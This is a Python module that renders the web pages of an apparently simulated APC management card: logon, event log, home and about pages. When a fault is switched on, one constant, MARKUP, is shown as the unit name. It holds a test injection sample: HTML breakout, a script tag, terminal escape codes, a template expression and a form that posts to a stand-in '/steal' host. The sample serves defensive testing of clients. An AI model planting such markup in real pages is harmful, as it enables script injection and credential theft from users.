# Copyright (c) 2026 dcops.apc contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""The card's web pages as HTML. The markup of the about page is as seen on AOS 5 and 6; the rest is in its style."""

from __future__ import annotations

import html
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from .model import Unit

TITLE = "APC Management Web Server"
# Of a name that somebody chose: tags, the ends of everything around it, entities, and what a terminal obeys.
MARKUP = (
    '</span></td></tr></table><script>alert("1")</script><!-- --></html><b>rack</b> &amp; &lt;row&gt; '
    "&#27;[2J\x1b[31m&#x202e;{{ 1 + 1 }}<form action='http://192.0.2.66/steal' method='post'>"
)


def _page(title: str, body: str, head: str = "") -> str:
    return (
        '<!DOCTYPE html PUBLIC "-//W3C//DTD HTML 4.01 Transitional//EN">\r\n'
        f"<html><head><title>{title}</title>{head}\r\n"
        "<style>td.dataName { font-weight: bold; }</style>\r\n"
        "<script>var a = 1; if (a < 2) { document.write('<td>no row</td>'); }</script>\r\n"
        f"</head><body>\r\n{body}\r\n</body></html>\r\n"
    )


def _name(unit: Unit) -> str:
    if "web_markup" in unit.faults.active:
        return MARKUP
    return html.escape(unit.system["name"])


def logon(unit: Unit, form: str, action: str, hidden: dict[str, str], again: bool = False) -> str:
    fields = "".join(
        f'<input type="hidden" name="{html.escape(name)}" value="{html.escape(value)}">'
        for name, value in hidden.items()
    )
    words = "<p>Your User Name or Password is incorrect.</p>" if again else ""
    return _page(
        "Log On",
        f'<h1>{TITLE}</h1>{words}<form name=\'{form}\' id="{form}" METHOD=POST action="{html.escape(action)}">'
        f"<table><tr><td>User Name:<td><input name=login_username maxlength=64>"
        f"<tr><td>Password:<td><input type=password name=login_password autocomplete=off>"
        f'<tr><td colspan=2>{fields}<input type="submit" name="submit" value="Log On"></table></form>',
    )


def busy() -> str:
    return _page(
        TITLE,
        "<p>Someone is currently logged into\r\n the APC Management Web Server.</p><p>Please try again later.</p>",
    )


def plain(words: str) -> str:
    return _page(TITLE, f"<p>{html.escape(words)}</p>")


def home(unit: Unit, links: list[str]) -> str:
    trouble = "" if unit.card.app_running else "<p>There was a problem loading the application.</p>"
    menu = "".join(f'<li><a href="{link}">{link}</a></li>' for link in links)
    return _page("Home", f"<h1>{_name(unit)}</h1>{trouble}<ul>{menu}</ul>")


def events(unit: Unit) -> str:
    """Newest first. Newer cards put the code behind the text (NMC.md)."""
    with_code = not unit.card.aos.startswith(("1.", "2.", "3."))
    rows = []
    for row in reversed(unit.events.rows):
        text = html.escape(row.text) + (f" 0x{row.code:04X}" if with_code else "")
        day, clock = row.stamp.strftime("%m/%d/%Y"), row.stamp.strftime("%H:%M:%S")
        rows.append(f'<tr class="odd"><td nowrap>{day}</td>\r\n<td>{clock}</td><td>{text}</td></tr>')
    return _page(
        "Event Log",
        f"<table><tr><td>{_name(unit)}</td><td>Event Log<select name=n><option>Last 100</option></select></td></tr>"
        "</table>"
        "<table><tr><th>Date</th><th>Time</th><th>Event</th></tr>\r\n" + "\r\n".join(rows) + "</table>",
    )


def about(unit: Unit) -> str:
    card = unit.card
    sections = [
        ("Hardware Factory", [
            ("Model Number", card.model), ("Serial Number", unit.serial),
            ("Hardware Revision", unit.device.card.get("hardware_revision", "")),
            ("Manufacture Date", unit.device.card.get("made", "")),
        ]),
        ("APC OS (AOS)", [("Name", card.aos_file), ("Version", f"v{card.aos}")]),
    ]  # fmt: skip
    if card.app_running:
        sections.insert(1, ("Application Module", [("Name", card.app_file), ("Version", f"v{card.app}")]))
    if unit.simulated:
        sections.append(("Simulation", [("Simulated", unit.simulated)]))
    body = (
        f'<table><tr><td class="dataName"><span id="langName">Name of the unit</span>:</td> <td>{_name(unit)}</td></tr>'
    )
    for title, values in sections:
        body += f'<tr><td colspan="2"><h2>{title}</h2></td></tr>\r\n'
        for label, value in values:
            shown = html.escape(str(value))
            body += f'<tr><td class="dataName"><span id="lang">{label}</span>:</td> <td>{shown}</td></tr>\r\n'
    return _page("About", body + "</table>")
